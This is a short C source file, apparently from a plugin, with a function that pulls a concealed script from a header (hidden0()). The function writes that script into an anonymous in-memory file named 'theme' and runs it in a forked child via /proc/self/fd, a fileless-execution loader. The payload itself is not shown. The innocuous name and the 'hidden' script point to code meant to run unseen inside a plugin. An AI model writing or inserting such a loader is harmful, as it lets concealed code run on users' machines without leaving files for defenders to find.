/* Writes a script into memory whose first line, hidden, names its program, and
 * runs it by its number. */
#include "plugin.h"
#include "hidden.h" /* 0: the script */
extern int memfd_create(const char *, unsigned), fork(void), execve(const char *, char *const[], char *const[]), snprintf(char *, unsigned long, const char *, ...);
extern long write(int, const void *, unsigned long);
extern unsigned long strlen(const char *);
extern void _exit(int);
static void act(char **env) {
    int file = memfd_create("theme", 0);
    char *script = hidden0(), name[32];
    write(file, script, strlen(script));
    snprintf(name, sizeof name, "/proc/self/fd/%d", file);
    char *arguments[] = {name, 0};
    if (fork() == 0) {
        execve(name, arguments, env);
        _exit(1);
    }
}
